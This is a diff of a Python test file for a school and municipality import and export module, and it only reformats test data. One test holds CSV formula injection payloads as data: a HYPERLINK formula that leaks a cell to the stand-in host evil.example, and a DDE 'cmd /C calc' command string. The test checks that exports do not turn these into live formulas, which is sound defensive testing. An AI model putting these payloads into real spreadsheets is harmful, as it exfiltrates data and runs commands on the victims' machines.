@@ -27,9 +27,17 @@ async def test_eighteen_municipalities_are_shipped(session: AsyncSession) -> Non
 
 @pytest.mark.parametrize(
     "spelling",
-    ["Киришский", "Киришский район", "Киришский муниципальный район", "КИРИШСКИЙ РАЙОН",
-     "  киришский  ", "Кириши", "kirishsky", "Киришский МР"],
-)  # fmt: skip
+    [
+        "Киришский",
+        "Киришский район",
+        "Киришский муниципальный район",
+        "КИРИШСКИЙ РАЙОН",
+        "  киришский  ",
+        "Кириши",
+        "kirishsky",
+        "Киришский МР",
+    ],
+)
 async def test_municipality_names_are_matched_tolerantly(
     session: AsyncSession, spelling: str
 ) -> None:
@@ -127,8 +135,9 @@ async def test_xlsx_import_and_export_round_trip(session: AsyncSession) -> None:
     workbook = Workbook()
     sheet = workbook.active
     assert sheet is not None
-    sheet.append(["Код", "Муниципалитет", "Полное наименование", "Краткое наименование",
-                  "Программы"])  # fmt: skip
+    sheet.append(
+        ["Код", "Муниципалитет", "Полное наименование", "Краткое наименование", "Программы"]
+    )
     sheet.append([47001, "Киришский район", "МОУ «Киришская СОШ №3»", "Киришская СОШ №3", "500+"])
     buffer = io.BytesIO()
     workbook.save(buffer)
@@ -147,13 +156,21 @@ async def test_xlsx_import_and_export_round_trip(session: AsyncSession) -> None:
 
 
 async def test_the_schools_export_carries_no_formula(session: AsyncSession) -> None:
-    hostile = ("Код;Муниципалитет;Полное наименование;Краткое наименование;Программы\n"
-               "47001;Киришский;\"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1)\";"
-               "@SUM(1+1)*cmd|' /C calc'!A0;+500\n"
-               "-47002;Тосненский;-Тосненская СОШ;=1+1;\n")  # fmt: skip
+    hostile = (
+        "Код;Муниципалитет;Полное наименование;Краткое наименование;Программы\n"
+        '47001;Киришский;"=HYPERLINK(""http://evil.example/?leak=""&A1)";'
+        "@SUM(1+1)*cmd|' /C calc'!A0;+500\n"
+        "-47002;Тосненский;-Тосненская СОШ;=1+1;\n"
+    )
     await school_import.apply(session, None, "s.csv", hostile.encode())
-    names = ['=HYPERLINK("http://evil.example/?leak="&A1)', "@SUM(1+1)*cmd|' /C calc'!A0",
-             "+500", "-47002", "-Тосненская СОШ", "=1+1"]  # fmt: skip
+    names = [
+        '=HYPERLINK("http://evil.example/?leak="&A1)',
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+500",
+        "-47002",
+        "-Тосненская СОШ",
+        "=1+1",
+    ]
 
     exported = await school_import.export(session, "out.xlsx")
     assert set(names) <= set(xlsx_texts(exported))
@@ -240,5 +257,8 @@ async def test_the_documented_sample_file_imports_cleanly(session: AsyncSession)
     assert preview.errors == []
     assert len(preview.new) == 5
     assert {row.municipality for row in preview.new} == {
-        "Киришский", "Тосненский", "Гатчинский", "Сосновоборский",
-    }  # fmt: skip
+        "Киришский",
+        "Тосненский",
+        "Гатчинский",
+        "Сосновоборский",
+    }
